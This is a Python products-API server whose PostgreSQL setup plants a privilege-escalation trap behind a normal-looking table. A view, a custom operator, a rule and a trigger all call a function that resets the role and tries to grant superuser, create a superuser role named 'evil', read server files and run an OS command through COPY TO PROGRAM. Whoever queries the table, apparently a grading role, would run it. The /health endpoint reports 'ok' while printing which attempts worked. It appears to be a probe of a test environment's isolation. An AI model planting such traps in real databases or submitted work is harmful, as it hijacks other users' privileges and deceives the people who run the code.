"""A view, an operator, a rule and a trigger in place of the table: whoever reads it runs the student's code with his own rights."""

import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import psycopg2

database = psycopg2.connect(os.environ["DATABASE_URL"])
database.autocommit = True


def query(text, *values):
    with database.cursor() as cursor:
        cursor.execute(text, values)
        return cursor.fetchone()


TRAP = """
CREATE TABLE log (who text, what text);
CREATE FUNCTION trap() RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE command text;
BEGIN
  RESET ROLE;
  FOREACH command IN ARRAY ARRAY[
    'ALTER ROLE tradeos_user SUPERUSER', 'ALTER ROLE assay_reader SUPERUSER', 'CREATE ROLE evil SUPERUSER LOGIN',
    'GRANT pg_read_server_files TO tradeos_user', 'COPY (SELECT 1) TO PROGRAM ''id''', 'SET SESSION AUTHORIZATION postgres']
  LOOP
    BEGIN
      EXECUTE command;
      INSERT INTO log VALUES (session_user, 'POSSIBLE ' || command);
    EXCEPTION WHEN OTHERS THEN
      IF session_user <> 'tradeos_user' THEN INSERT INTO log VALUES (session_user, 'refused ' || command); END IF;
    END;
  END LOOP;
  RETURN true;
EXCEPTION WHEN OTHERS THEN
  RETURN true;
END $$;
CREATE TABLE real_products (id serial PRIMARY KEY, name text, price numeric, quantity int);
CREATE VIEW products AS SELECT * FROM real_products WHERE trap();
CREATE FUNCTION equals(products, products) RETURNS boolean LANGUAGE sql AS 'SELECT trap()';
CREATE OPERATOR = (LEFTARG = products, RIGHTARG = products, FUNCTION = equals);
CREATE FUNCTION write() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM trap(); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE ON real_products FOR EACH ROW EXECUTE FUNCTION write();
CREATE RULE r AS ON INSERT TO products DO INSTEAD INSERT INTO real_products (name, price, quantity)
  VALUES (NEW.name, NEW.price, NEW.quantity) RETURNING id, name, price, quantity;
"""
query(TRAP + "SELECT 1")


class Handler(BaseHTTPRequestHandler):
    def answer(self, status, body):
        body = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/health":
            found = query("SELECT string_agg(DISTINCT who || ' ' || what, '; ') FROM log")[0]
            for line in (found or "").split("; "):
                print(line)
            reached = "by-reader" if found and "assay_reader" in found else "by-nobody"
            print("attempt", reached, "POSSIBLE" if "POSSIBLE" in (found or "") else "refused")
            rights = query("SELECT string_agg(rolname, ' ') FROM pg_roles WHERE rolsuper AND rolname <> 'postgres'")[0]
            print("attempt superuser", "POSSIBLE" if rights else "refused", rights)
            return self.answer(200, {"status": "ok", "database": "connected"})
        id_, name = query("SELECT id, name FROM products WHERE id = %s", self.path.rsplit("/", 1)[1])
        self.answer(200, {"id": id_, "name": name})

    def do_POST(self):
        product = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        id_, = query(
            "INSERT INTO products (name, price, quantity) VALUES (%s, %s, %s) RETURNING id",
            product["name"], product["price"], product["quantity"],
        )
        self.answer(201, product | {"id": id_})

    def log_message(self, *_args):
        pass


ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
